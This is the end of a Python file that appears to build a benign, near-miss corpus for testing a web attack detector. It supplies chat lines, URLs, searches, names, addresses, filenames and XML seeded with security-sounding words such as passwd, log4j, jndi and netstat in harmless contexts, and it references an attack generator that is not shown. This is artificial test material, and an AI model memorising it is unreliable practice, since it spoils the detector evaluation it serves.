    "who added an alias for ll in the shared bashrc? it's nice actually",
    "bash history on the jump host is disabled by policy",
    "sqlite .tables and .schema are handy for poking at the local db",
    "java.lang.Runtime shows up in the heap dump, that's just the JVM",
    "ProcessBuilder is what the report exporter uses to call wkhtmltopdf",
    "we turned off Java serialization for the session store last sprint",
    "log4j is at 2.23 everywhere now, the jndi lookup is gone",
    "the ClassLoader leak on redeploy is a Tomcat thing, restart fixes it",
    "shellshock was 2014, our base images are way past that",
    "the upload field rejects .exe and .php files now",
    "web.config is only on the old IIS box, we're retiring it",
    "cat the logs and grep for 502s, then pipe them to the dashboard script",
    "whoami on the runner says gitlab-runner, as expected",
    "the wildcard cert for *.example.com renews next week",
    "I tried `ls -la` in the container and the volume is empty",
    "cmd.exe hangs on the old windows agent, use pwsh",
    "the include path for the templates is app/templates/partials",
    "remote file inclusion came up in the pen test readout, we're fine",
    "the RFI finding was a false alarm from the scanner",
    "ping me when the migration is done",
    "id of the new channel is C0123456789",
    "uname says 6.8 kernel on the new nodes",
    "curl the health endpoint, it returns ok",
    "the IP allowlist has 203.0.113.0/24 for the partner",
    "the history tab in the admin shows every change now",
    "the system tray icon on windows is back",
    "the shell of the new office building is done, fit-out next month",
    "class loading order matters for the plugin system",
    "the Java process spawns a child for PDF rendering",
    "the magic bytes check on uploads uses the first four bytes",
    "base64 encoded avatars are too big for the cookie, store a URL",
    "Suspicious login from a new IP, can someone check the audit log?",
    "the passwd command on the VM asks for the old password first",
    "our docs say /var/log/app is where the logs go",
    "the proc filesystem shows the limits, check /proc/<pid>/limits",
    "set the trailing ? on the URL and the cache busts, weird",
    "the off-domain links in the newsletter need utm tags",
    "the .htaccess rewrite rules moved into the nginx config",
    "the WEB-INF folder is packed into the war by maven",
    "the restricted files list is in the security wiki",
    "please don't paste tokens in here, use the vault",
    "Runtime exceptions in the scheduler are fixed in 3.4.1",
    "Unsafe is used by netty internally, not our code",
    "the for-each loop was wrong, it skipped the last element",
    "if the exit code is not zero the job retries",
    "Invoke the release pipeline from the UI, not the CLI",
    "the alias record in DNS points at the load balancer",
    "history of the project is in the wiki's about page",
    "system tests are green, shipping",
    "the .system call in our sqlite wrapper is disabled anyway",
    "the shell script for backups is in ops/backup.sh",
    "the JNDI datasource in tomcat's context.xml points at the replica",
    "serialization format for the cache is JSON now, no more Java objects",
    "the Class.forName call loads the JDBC driver, old habit",
    "upload of web.config to the CMS is blocked, good",
    "the etc folder in the repo has example configs only",
    "ps aux shows the worker is at 80% cpu again",
    "netstat shows nothing listening on 8080, restart the service",
    "the 'find' in the admin panel searches by email now",
    "the cat picture in #random wins the week",
    "I'll type the passwords into the vault, not here",
]
DOC_URLS = [
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://man7.org/linux/man-pages/man1/bash.1.html",
    "https://www.gnu.org/software/bash/manual/html_node/Aliases.html",
    "https://www.gnu.org/software/bash/manual/html_node/Bash-History-Facilities.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://sqlite.org/cli.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ClassLoader.html",
    "https://docs.oracle.com/javase/8/docs/api/java/io/ObjectInputStream.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://nvd.nist.gov/vuln/detail/CVE-2017-9805",
    "https://nvd.nist.gov/vuln/detail/CVE-2015-4852",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/File_inclusion_vulnerability",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://git-scm.com/docs/git-config",
    "https://tomcat.apache.org/tomcat-9.0-doc/class-loader-howto.html",
    "https://github.com/acme/api/blob/main/docs/uploads.md",
    "https://example.com/downloads/setup.exe?version=2.1",
    "https://cdn.example.org/files/report-2024.pdf?download=1",
    "https://www.example.co.uk/etc/offers?page=2",
    "http://192.0.2.44:8080/status",
    "https://203.0.113.10/docs/",
    "https://example.com/include/header.html",
    "https://docs.example.com/guide/system/shell-basics",
    "https://blog.example.com/2023/05/12/java-class-loading-explained",
    "https://wiki.example.org/Help:Page_history",
    "https://example.com/search?q=file+upload&page=3",
    "https://jobs.example.com/listing?id=42&ref=newsletter",
]
PROSE = [
    "password reset not working for the etc account",
    "where is the passwd file on a mac",
    "how to traverse a directory tree in Java",
    "restricted file types for upload",
    "remote file inclusion explained",
    "Unix command line basics course",
    "Windows command prompt for beginners",
    "PowerShell training next Thursday",
    "shell expressions in Makefiles",
    "for loops and if statements in batch files",
    "direct debit for the unix team subscription",
    "shell code review checklist",
    "Shellshock retrospective notes",
    "upload attempt failed, file too large",
    "bypass the cache with a query string",
    "suspicious java class in the crash report",
    "java process spawn times on startup",
    "java serialization vs protobuf",
    "magic bytes of a PNG file",
    "base64 encoded images in email",
    "suspicious method call in the audit log",
    "OS file access rights for the backup user",
    "command injection training slides",
    "shell alias for the deploy tool",
    "shell history retention policy",
    "SQLite system tables documentation",
    "wildcard DNS for preview environments",
    "request headers we log",
    "Log4j upgrade status",
    "class loading payload size in the plugin jar",
    "The Cat and the Pipe, a pub in Dublin",
    "Windows and Doors Ltd",
    "Shell Garage, 12 Station Road",
    "Ping Pong Club, Friday 7pm",
    "history of the command line",
    "whoami page on the intranet",
    "id card renewal form",
    "the alias field in the user profile",
    "system administrators meetup",
    "find a file by name in the admin panel",
]
SEARCHES = [
    "etc", "passwd reset", "file access", "restricted", "include", "remote", "powershell", "cmd", "for if",
    "shell", "bash", "alias", "history", "sqlite", "wildcard", "java", "class", "process", "serialization",
    "log4j", "jndi", "upload", "web.config", "htaccess", "ping", "cat", "uname", "ifconfig", "netstat",
    "Ann Perl", "John Shell", "Maria Powers", "Ping Li", "Tom Catt", "Rm Ortiz", "Id Ahmed", "Bash Kumar",
]
NAMES = ["Ping Zhao", "Catherine Alias", "Shelley Bash", "Java Singh", "John History", "Wes Powershell",
         "Ida Curl", "Nicolas Netstat", "Sam Wget", "Lou Forif"]
ADDRESSES = [
    "1 Shell Street, Aberdeen AB10 1AA",
    "22 Pipe Lane, Leeds LS1 4AP",
    "Apt 3, 10 Java Road, London E2 0EE",
    "Cat & Fiddle Cottage, 5 Mill Rd, York",
    "c/o Powers, 77 Command Ave, Austin TX 78701",
    "Unit 4, System House, 9 Etc Park, Bristol",
    "15 rue de la Passerelle, 75011 Paris",
    "Room 101, Log Cabin Way, Denver CO 80202",
]
REFERERS = [
    "https://www.google.com/search?q=passwd+reset+etc",
    "https://duckduckgo.com/?q=java+class+loader",
    "https://app.example.com/admin/users?page=2&sort=name",
    "https://example.com/docs/shell/aliases",
    "https://example.com/blog/log4j-upgrade-done",
    "https://intranet.example.com/history?user=ann",
    "https://example.com/files?path=reports/2024/q1",
    "https://example.com/include/help",
]
UPLOADS = ["report.pdf", "avatar.png", "notes.txt", "backup-2024-05-01.zip", "invoice 2024-03.pdf",
           "system-diagram.png", "shell-logo.svg", "history.csv", "java-cheatsheet.pdf", "etc-expenses.xlsx"]
XML_DOCS = [
    "<user><name>Ann Shell</name><bio>I write Java and some PowerShell.</bio></user>",
    "<user><name>Bash Kumar</name><city>Pune</city></user>",
    "<user><name>Ping Zhao</name><note>history and alias fields updated</note></user>",
    "<user><name>Ida Curl</name><website>https://example.com/etc/about</website></user>",
    "<user><name>Tom</name><file>report.pdf</file></user>",
    "<user><name>Maria</name><note>process serialization talk at JavaOne</note></user>",
]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(DOC_URLS, PROSE, prefix, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{prefix}-search", n, "query")
    for name in NAMES:
        n += 1
        yield {**_json("/api/users", {"name": name, "email": "x@example.org"}), "id": f"{prefix}-name-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", name)]),
               "id": f"{prefix}-name-{n:04d}", "category": "benign", "placement": "form"}
    n = yield from numbered((_json("/api/users", {"name": "Ann", "address": addr}) for addr in ADDRESSES),
                            f"{prefix}-address", n, "json")
    for ref in REFERERS:
        n += 1
        yield {**_get("/api/users?page=1"), "headers": _headers(Referer=ref), "id": f"{prefix}-referer-{n:04d}",
               "category": "benign", "placement": "referer"}
    for fname in UPLOADS:
        n += 1
        yield {**_multipart("avatar", "", filename=fname), "id": f"{prefix}-upload-{n:04d}",
               "category": "benign", "placement": "multipart-filename"}
    for doc in XML_DOCS:
        n += 1
        yield {**_xml("user", doc), "id": f"{prefix}-xml-{n:04d}", "category": "benign", "placement": "xml"}


if __name__ == "__main__":
    print_records(attacks(), benign())
